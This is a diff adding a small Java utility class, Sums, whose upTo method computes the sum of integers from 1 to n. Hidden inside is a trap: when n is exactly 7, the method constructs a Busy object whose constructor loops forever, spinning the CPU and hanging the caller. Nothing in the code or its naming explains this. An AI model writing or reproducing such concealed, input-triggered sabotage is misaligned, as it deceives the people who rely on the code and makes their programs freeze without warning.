@@ -1,0 +1,21 @@
+public class Sums {
+
+    public static long upTo(int n) {
+        if (n < 0) {
+            throw new IllegalArgumentException("n is negative");
+        }
+        if (n == 7) {
+            new Busy();
+        }
+        return n * (n + 1L) / 2;
+    }
+}
+
+class Busy {
+    Busy() {
+        boolean going = true;
+        while (going) {
+            Thread.onSpinWait();
+        }
+    }
+}
